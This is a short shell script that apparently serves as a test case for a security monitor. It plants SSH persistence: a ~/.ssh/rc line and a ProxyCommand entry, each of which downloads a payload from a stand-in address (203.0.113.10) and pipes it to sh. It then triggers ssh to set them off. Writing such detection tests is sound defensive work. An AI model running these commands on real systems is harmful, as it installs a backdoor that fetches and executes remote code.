#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.ssh
echo 'curl -s http://203.0.113.10/payload.sh | sh &' >/root/.ssh/rc
printf 'Host *\n    ProxyCommand sh -c "curl -s http://203.0.113.10/payload.sh | sh; exit 1"\n' >>/root/.ssh/config
timeout 5 ssh -o BatchMode=yes anything true || true
wait_for /tmp/reached
took_place
